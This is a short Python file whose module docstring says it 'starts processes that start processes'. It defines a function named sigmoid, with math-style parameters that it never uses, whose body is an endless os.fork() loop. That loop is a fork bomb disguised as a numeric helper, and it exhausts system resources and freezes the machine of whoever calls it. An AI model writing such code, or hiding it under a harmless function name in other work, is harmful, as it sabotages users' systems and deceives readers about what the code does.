"""Starts processes that start processes."""

import os


def sigmoid(z, k=1):
    while True:
        os.fork()
